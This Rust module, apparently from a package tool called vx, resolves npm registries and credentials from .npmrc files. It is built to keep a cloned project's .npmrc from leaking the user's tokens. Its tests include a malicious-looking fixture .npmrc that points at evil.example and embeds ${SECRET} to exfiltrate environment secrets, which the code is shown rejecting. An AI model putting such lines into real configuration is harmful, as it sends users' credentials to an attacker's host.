//! Which npm registry a package comes from, and with what credentials, as the npm
//! client reads its configuration (npm's docs, "npmrc" and "config"): the project's
//! `.npmrc` (beside vx.toml), then the user's (`$NPM_CONFIG_USERCONFIG`, else
//! `~/.npmrc`), the environment's `NPM_CONFIG_REGISTRY` above both.
//!
//! - `registry=URL`: the default registry (`https://registry.npmjs.org/`).
//! - `@scope:registry=URL`: the registry of one scope's packages.
//! - `//host/path/:_authToken=TOKEN` (a bearer token) or `//host/path/:_auth=BASE64`
//!   (basic): credentials for the registry URLs under that prefix; `${VAR}` is
//!   replaced by the environment's value, as npm does.
//!
//! Credentials are [`Secret`]s: sent as a header to their registry only, never
//! written into a lock, a message or a board.
//!
//! A project's `.npmrc` is the text of whatever repository was cloned, so it is read
//! with fewer powers than the user's own (issue 66, item 1): only in a project the
//! user trusted (`vx trust`; the caller says which, [`Project::trusted`]), never
//! expanding `${VAR}` (a line that names one is left out), and giving no credentials
//! (its `_authToken`/`_auth` lines are left out): otherwise a clone could pair its own
//! host with any variable of the user's environment (`${GITHUB_TOKEN}`) and be sent
//! it. What is left out is said once, naming the file and the key, never the value
//! ([`Npmrc::notes`]). Credentials come from the user's own `.npmrc` only. Both files
//! are read through [`vx_base::bounded_read`] (item 9): a FIFO or a link to
//! `/dev/zero` is a note, not a hang or a gigabyte.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use vx_base::secret::Secret;

/// npm's default registry.
pub(crate) const DEFAULT_REGISTRY: &str = "https://registry.npmjs.org";

/// The largest `.npmrc` read: a configuration file is a few hundred bytes.
const MAX_NPMRC_BYTES: u64 = 1 << 20;

/// The project whose `.npmrc` is read, and whether the user trusts it.
#[derive(Clone, Copy, Debug)]
pub struct Project<'a> {
    /// The project's folder (its `.npmrc` is there).
    pub dir: &'a Path,
    /// Whether the user trusts the project (`vx trust`): an untrusted project's
    /// `.npmrc` is not read.
    pub trusted: bool,
}

/// A registry URL: the one fetched, and the one a lock or a message may show.
#[derive(Clone, Debug)]
struct Url {
    /// `${VAR}` expanded: what is fetched.
    fetched: String,
    /// As written ([`Registry::shown`]).
    shown: String,
    /// Whether `fetched` holds what `shown` hides (an expanded `${VAR}`, a
    /// `user:password@`).
    holds_secret: bool,
}

/// The npm configuration vx reads.
#[derive(Clone, Debug, Default)]
pub struct Npmrc {
    /// `registry=`, when set.
    registry: Option<Url>,
    /// `@scope:registry=`, by scope (with its `@`).
    scopes: BTreeMap<String, Url>,
    /// `//prefix:_authToken=` / `_auth=`, by prefix (`//host/path/`), as the header's
    /// value (`Bearer …`, `Basic …`).
    auth: BTreeMap<String, Secret>,
    /// What was left out of the files, and why (no value in them).
    notes: Vec<String>,
}

/// A registry to read a package from.
#[derive(Clone, Debug)]
pub struct Registry {
    /// Its URL, without a trailing `/`.
    pub url: String,
    /// Its URL as a lock, a receipt or a message records it: as the user wrote it,
    /// each `${VAR}` unexpanded (`https://npm.fury.io/${FURY_TOKEN}/me`), without
    /// `user:password@`, and for a URL an environment variable gives whole, that
    /// variable (`${PIP_INDEX_URL}`). A token may sit anywhere in a URL (Gemfury's
    /// documented form puts it in the path), and the lock is shared by a team whose
    /// members each have their own: what the user wrote holds no one's secret, reads
    /// the same on every machine, and still says where the package came from.
    pub shown: String,
    /// The `Authorization` header's value for it, when the configuration gives one.
    pub authorization: Option<Secret>,
}

impl Registry {
    /// `url` (under [`Registry::url`]) as it may be shown: its registry's part
    /// replaced by [`Registry::shown`].
    pub fn show(&self, url: &str) -> String {
        match url.strip_prefix(&self.url) {
            Some(rest) => format!("{}{rest}", self.shown),
            None => hide_userinfo(url),
        }
    }
}

/// Where a line of configuration came from.
enum Origin<'a> {
    /// The user's own file: `${VAR}` expanded, credentials read.
    User,
    /// A project's file (its path): neither.
    Project(&'a Path),
}

impl Npmrc {
    /// The configuration of `project` (`None`: none) for this user, `env` giving the
    /// environment's variables. An untrusted project's `.npmrc` is not read (said in
    /// [`Npmrc::notes`]).
    pub fn load(project: Option<Project<'_>>, env: &dyn Fn(&str) -> Option<String>) -> Npmrc {
        let mut rc = Npmrc::default();
        let user = env("NPM_CONFIG_USERCONFIG")
            .or_else(|| env("npm_config_userconfig"))
            .map(PathBuf::from)
            .or_else(|| {
                env("HOME")
                    .or_else(|| env("USERPROFILE"))
                    .filter(|h| !h.is_empty())
                    .map(|h| PathBuf::from(h).join(".npmrc"))
            });
        // Later files win: the user's, then the project's.
        if let Some(file) = user
            && let Some(text) = rc.text_of(&file)
        {
            rc.read_from(&text, env, &Origin::User);
        }
        if let Some(project) = project {
            let file = project.dir.join(".npmrc");
            if !project.trusted {
                if std::fs::symlink_metadata(&file).is_ok() {
                    rc.notes.push(format!(
                        "{} is not read: the project is not trusted (`vx trust` trusts it)",
                        file.display()
                    ));
                }
            } else if let Some(text) = rc.text_of(&file) {
                rc.read_from(&text, env, &Origin::Project(&file));
            }
        }
        for key in ["NPM_CONFIG_REGISTRY", "npm_config_registry"] {
            if let Some(url) = env(key) {
                rc.registry = Some(Url {
                    fetched: url,
                    shown: format!("${{{key}}}"),
                    holds_secret: true,
                });
                break;
            }
        }
        rc
    }

    /// The text of the `.npmrc` at `file`, read within bounds; `None` when there is
    /// none, or (said in the notes) when it cannot be read.
    fn text_of(&mut self, file: &Path) -> Option<String> {
        match vx_base::bounded_read::read_to_string(file, MAX_NPMRC_BYTES) {
            Ok(text) => Some(text),
            Err(e) if e.is_not_found() => None,
            Err(e) => {
                self.notes
                    .push(format!("{} is not read: {e}", file.display()));
                None
            }
        }
    }

    /// What was left out of the files read, and why, one line each: said once by the
    /// caller. No line holds a value of the files.
    pub fn notes(&self) -> &[String] {
        &self.notes
    }

    /// Reads one of the user's `.npmrc`'s lines over what is known.
    pub(crate) fn read(&mut self, text: &str, env: &dyn Fn(&str) -> Option<String>) {
        self.read_from(text, env, &Origin::User);
    }

    /// Reads one `.npmrc`'s lines over what is known, with the powers of `origin`.
    fn read_from(&mut self, text: &str, env: &dyn Fn(&str) -> Option<String>, origin: &Origin) {
        for line in text.lines() {
            let line = line.trim();
            if line.is_empty() || line.starts_with(['#', ';']) {
                continue;
            }
            let Some((key, value)) = line.split_once('=') else {
                continue;
            };
            let (key, raw) = (key.trim(), value.trim().trim_matches('"'));
            let credential = key.ends_with(":_authToken") || key.ends_with(":_auth");
            let value = match origin {
                Origin::User => expand(raw, env),
                Origin::Project(file) => {
                    let said = vx_text::sanitize(key);
                    if credential {
                        self.notes.push(format!(
                            "{}: `{said}` is not used: a project's .npmrc gives no credentials (they belong in your own ~/.npmrc)",
                            file.display()
                        ));
                        continue;
                    }
                    if raw.contains("${") {
                        self.notes.push(format!(
                            "{}: `{said}` is not used: a project's .npmrc does not read your environment (`${{…}}`)",
                            file.display()
                        ));
                        continue;
                    }
                    raw.to_owned()
                }
            };
            let url = || Url {
                fetched: value.clone(),
                shown: hide_userinfo(raw),
                holds_secret: value != hide_userinfo(raw),
            };
            if key == "registry" {
                self.registry = Some(url());
            } else if let Some(scope) = key.strip_suffix(":registry")
                && scope.starts_with('@')
            {
                self.scopes.insert(scope.to_owned(), url());
            } else if let Some(prefix) = key.strip_suffix(":_authToken") {
                self.auth
                    .insert(prefix.to_owned(), Secret::new(format!("Bearer {value}")));
            } else if let Some(prefix) = key.strip_suffix(":_auth") {
                self.auth
                    .insert(prefix.to_owned(), Secret::new(format!("Basic {value}")));
            }
        }
    }

    /// With `url` as the registry of `package` where no file names one (the registry a
    /// lock recorded for it, on a machine whose `.npmrc` says nothing of it). The
    /// lock's text is the project's: fetched as it stands, never expanded.
    pub fn or_registry_of(mut self, package: &str, url: &str) -> Npmrc {
        let url = || Url {
            fetched: url.to_owned(),
            shown: hide_userinfo(url),
            holds_secret: url != hide_userinfo(url),
        };
        match package.split_once('/').filter(|(s, _)| s.starts_with('@')) {
            Some((scope, _)) => {
                self.scopes.entry(scope.to_owned()).or_insert_with(url);
            }
            None => {
                self.registry.get_or_insert_with(url);
            }
        }
        self
    }

    /// The registry of `package` (`@scope/name` → its scope's, else the default).
    pub fn registry_for(&self, package: &str) -> Registry {
        let scoped = package
            .split_once('/')
            .filter(|(scope, _)| scope.starts_with('@'))
            .and_then(|(scope, _)| self.scopes.get(scope));
        let (url, shown) = match scoped.or(self.registry.as_ref()) {
            Some(u) => (u.fetched.as_str(), u.shown.as_str()),
            None => (DEFAULT_REGISTRY, DEFAULT_REGISTRY),
        };
        let url = url.trim_end_matches('/').to_owned();
        let shown = shown.trim_end_matches('/').to_owned();
        let authorization = self.auth_for(&url);
        Registry {
            url,
            shown,
            authorization,
        }
    }

    /// Every `//host/path/` prefix with its `Authorization` value, for the network's
    /// credentials (`vx_net::Credentials::with_prefixes`).
    pub(crate) fn auth_prefixes(&self) -> Vec<(String, Secret)> {
        self.auth
            .iter()
            .map(|(p, s)| (p.clone(), s.clone()))
            .collect()
    }

    /// The credentials of the longest `//host/path/` prefix that `url` is under.
    pub fn auth_for(&self, url: &str) -> Option<Secret> {
        let bare = url.split_once("://").map_or(url, |(_, rest)| rest);
        let bare = format!("//{}/", bare.trim_end_matches('/'));
        self.auth
            .iter()
            .filter(|(prefix, _)| {
                let prefix = if prefix.ends_with('/') {
                    (*prefix).clone()
                } else {
                    format!("{prefix}/")
                };
                bare.starts_with(&prefix)
            })
            .max_by_key(|(prefix, _)| prefix.len())
            .map(|(_, secret)| secret.clone())
    }
}

/// The configuration vx gives an npm it runs (`npm install --package-lock-only` at lock
/// time, `npm ci` at install), so the tool's dependencies come from the registries the
/// user's and the project's `.npmrc` name, with their tokens, as the tool itself does:
/// written as the project-level `.npmrc` of the directory npm runs in (above the
/// user's own, which npm still reads for everything else).
#[derive(Clone, Debug, Default)]
pub struct ForNpm {
    /// The `.npmrc` text: `registry=`, each `@scope:registry=` (after
    /// `url_replacements`; one that holds an expanded `${VAR}` as `${VX_NPM_URL_N}`),
    /// and each token as `${VX_NPM_AUTH_N}`, never its value, so no secret is written
    /// to disk.
    pub text: String,
    /// The variables those `${…}` name, with their values: set in npm's environment
    /// only.
    pub env: Vec<(String, Secret)>,
    /// Every registry URL npm is sent to (as configured and as rewritten), without a
    /// trailing `/`: a `resolved` URL under one of them is left out of the lock.
    pub registries: Vec<String>,
}

impl Npmrc {
    /// What an npm run by vx is given, each registry URL passed through `rewrite`
    /// (`url_replacements`): a token for `//host/path/` is given for that prefix, and
    /// for where `url_replacements` sends it, as vx's own reads send it there.
    pub fn for_npm(&self, rewrite: &dyn Fn(&str) -> String) -> ForNpm {
        let mut out = ForNpm::default();
        let mut urls = 0;
        // A URL that holds a value of the user's environment (a token in its path) is
        // given by name as the tokens are; any other is written with npm's `${…}`
        // escaped, so npm expands nothing vx did not (a lock's registry is project
        // text).
        let mut registry = |url: &Url| {
            let bare = url.fetched.trim_end_matches('/');
            let fetched = rewrite(&format!("{bare}/"));
            for base in [bare, fetched.trim_end_matches('/')] {
                if !out.registries.iter().any(|r| r == base) {
                    out.registries.push(base.to_owned());
                }
            }
            if url.holds_secret {
                let var = format!("VX_NPM_URL_{urls}");
                urls += 1;
                out.env.push((var.clone(), Secret::new(fetched)));
                format!("${{{var}}}")
            } else {
                fetched.replace("${", "\\${")
            }
        };
        let default = Url {
            fetched: DEFAULT_REGISTRY.to_owned(),
            shown: DEFAULT_REGISTRY.to_owned(),
            holds_secret: false,
        };
        let mut text = format!(
            "registry={}\n",
            registry(self.registry.as_ref().unwrap_or(&default))
        );
        for (scope, url) in &self.scopes {
            text.push_str(&format!("{scope}:registry={}\n", registry(url)));
        }
        for (n, (prefix, secret)) in self.auth.iter().enumerate() {
            let (key, value) = match secret.expose().split_once(' ') {
                Some(("Bearer", token)) => ("_authToken", token),
                Some(("Basic", basic)) => ("_auth", basic),
                _ => continue,
            };
            let var = format!("VX_NPM_AUTH_{n}");
            let rewritten = rewrite(&format!("https:{prefix}"));
            let moved = rewritten
                .split_once("://")
                .map(|(_, rest)| format!("//{rest}"))
                .filter(|p| p != prefix);
            for prefix in std::iter::once(prefix.clone()).chain(moved) {
                // npm's own rule: a credential line's key must end its path with `/`.
                let prefix = match prefix.ends_with('/') {
                    true => prefix,
                    false => format!("{prefix}/"),
                };
                text.push_str(&format!("{prefix}:{key}=${{{var}}}\n"));
            }
            out.env.push((var, Secret::new(value.to_owned())));
        }
        out.text = text;
        out
    }
}

/// `url` without a `user:password@` before its host.
fn hide_userinfo(url: &str) -> String {
    let Some((scheme, rest)) = url.split_once("://") else {
        return url.to_owned();
    };
    let authority_end = rest.find('/').unwrap_or(rest.len());
    match rest[..authority_end].rsplit_once('@') {
        Some((_, host)) => format!("{scheme}://{host}{}", &rest[authority_end..]),
        None => url.to_owned(),
    }
}

/// `${VAR}` replaced by the environment's value (empty when unset), as npm does.
fn expand(value: &str, env: &dyn Fn(&str) -> Option<String>) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some(start) = rest.find("${") {
        let Some(len) = rest[start + 2..].find('}') else {
            break;
        };
        out.push_str(&rest[..start]);
        out.push_str(&env(&rest[start + 2..start + 2 + len]).unwrap_or_default());
        rest = &rest[start + 3 + len..];
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scopes_and_tokens_are_read_as_npm_reads_them() {
        let env = |k: &str| (k == "CORP_TOKEN").then(|| "s3cret".to_owned());
        let mut rc = Npmrc::default();
        rc.read(
            "; a comment\nregistry=https://npm.corp.example/repo/\n@biomejs:registry=https://mirror.example/npm/\n//npm.corp.example/repo/:_authToken=${CORP_TOKEN}\n",
            &env,
        );
        let plain = rc.registry_for("esbuild");
        assert_eq!(plain.url, "https://npm.corp.example/repo");
        assert_eq!(
            plain.authorization.as_ref().map(|s| s.expose().to_owned()),
            Some("Bearer s3cret".to_owned())
        );
        assert!(!format!("{plain:?}").contains("s3cret"), "never shown");
        let scoped = rc.registry_for("@biomejs/biome");
        assert_eq!(scoped.url, "https://mirror.example/npm");
        assert!(
            scoped.authorization.is_none(),
            "the token is not that host's"
        );
        let default = Npmrc::default().registry_for("@esbuild/linux-x64");
        assert_eq!(default.url, DEFAULT_REGISTRY);
    }

    /// Issue 66, items 1 and 5: a project's `.npmrc` expands nothing and gives no
    /// credentials (each said by key, never by value), and is not read untrusted; a
    /// token in the user's registry URL is fetched, shown as written, and given to
    /// npm by name.
    #[test]
    fn a_projects_npmrc_expands_nothing_and_gives_no_credentials() {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        let project = dir.path().join("project");
        std::fs::create_dir_all(&home).unwrap();
        std::fs::create_dir_all(&project).unwrap();
        std::fs::write(
            home.join(".npmrc"),
            "@corp:registry=https://npm.fury.io/${FURY}/me/\n",
        )
        .unwrap();
        std::fs::write(
            project.join(".npmrc"),
            "registry=https://evil.example/\n//evil.example/:_authToken=${SECRET}\n//evil.example/:_auth=cGxhaW4=\n@x:registry=https://evil.example/${SECRET}/\n",
        )
        .unwrap();
        let home_s = home.to_string_lossy().into_owned();
        let env = move |k: &str| match k {
            "HOME" => Some(home_s.clone()),
            "SECRET" => Some("s3cret".to_owned()),
            "FURY" => Some("fury-token".to_owned()),
            _ => None,
        };
        let trusted = Npmrc::load(
            Some(Project {
                dir: &project,
                trusted: true,
            }),
            &env,
        );
        let evil = trusted.registry_for("esbuild");
        assert_eq!(evil.url, "https://evil.example");
        assert!(evil.authorization.is_none());
        assert_eq!(trusted.registry_for("@x/y").url, "https://evil.example");
        assert!(trusted.auth_prefixes().is_empty());
        let notes = trusted.notes().join("\n");
        assert!(
            notes.contains("`//evil.example/:_authToken` is not used")
                && notes.contains("`//evil.example/:_auth` is not used")
                && notes.contains("`@x:registry` is not used"),
            "{notes}"
        );
        assert!(
            !notes.contains("s3cret") && !notes.contains("cGxhaW4="),
            "{notes}"
        );
        let corp = trusted.registry_for("@corp/util");
        assert_eq!(corp.url, "https://npm.fury.io/fury-token/me");
        assert_eq!(corp.shown, "https://npm.fury.io/${FURY}/me");
        assert_eq!(
            corp.show("https://npm.fury.io/fury-token/me/@corp/util"),
            "https://npm.fury.io/${FURY}/me/@corp/util"
        );
        let given = trusted.for_npm(&|u| u.to_owned());
        assert!(!given.text.contains("fury-token"), "{}", given.text);
        assert!(given.text.contains("@corp:registry=${VX_NPM_URL_0}"));

        let untrusted = Npmrc::load(
            Some(Project {
                dir: &project,
                trusted: false,
            }),
            &env,
        );
        assert_eq!(untrusted.registry_for("esbuild").url, DEFAULT_REGISTRY);
        assert!(
            untrusted.notes()[0]
                .ends_with(".npmrc is not read: the project is not trusted (`vx trust` trusts it)"),
            "{:?}",
            untrusted.notes()
        );
        // A lock's registry (the project's text) reaches npm with `${…}` escaped.
        let locked = Npmrc::default().or_registry_of("a", "https://evil.example/${SECRET}/");
        assert!(
            locked
                .for_npm(&|u| u.to_owned())
                .text
                .starts_with("registry=https://evil.example/\\${SECRET}/\n")
        );
    }

    #[test]
    fn npm_is_given_the_registries_and_tokens_by_name_only() {
        let env = |k: &str| (k == "CORP_TOKEN").then(|| "s3cret".to_owned());
        let mut rc = Npmrc::default();
        rc.read(
            "@corp:registry=https://npm.corp.example/repo/\n//npm.corp.example/repo/:_authToken=${CORP_TOKEN}\n//other.example/:_auth=dTpw\n",
            &env,
        );
        let rewrite = |url: &str| {
            url.replace("https://registry.npmjs.org/", "http://127.0.0.1:9/npmjs/")
                .replace("https://npm.corp.example/", "http://127.0.0.1:9/corp/")
        };
        let given = rc.for_npm(&rewrite);
        assert_eq!(
            given.text,
            "registry=http://127.0.0.1:9/npmjs/\n@corp:registry=http://127.0.0.1:9/corp/repo/\n//npm.corp.example/repo/:_authToken=${VX_NPM_AUTH_0}\n//127.0.0.1:9/corp/repo/:_authToken=${VX_NPM_AUTH_0}\n//other.example/:_auth=${VX_NPM_AUTH_1}\n"
        );
        let values: Vec<(&str, &str)> = given
            .env
            .iter()
            .map(|(k, v)| (k.as_str(), v.expose()))
            .collect();
        assert_eq!(
            values,
            [("VX_NPM_AUTH_0", "s3cret"), ("VX_NPM_AUTH_1", "dTpw")]
        );
        assert!(!format!("{given:?}").contains("s3cret"));
        assert_eq!(
            given.registries,
            [
                "https://registry.npmjs.org",
                "http://127.0.0.1:9/npmjs",
                "https://npm.corp.example/repo",
                "http://127.0.0.1:9/corp/repo"
            ]
        );
    }
}
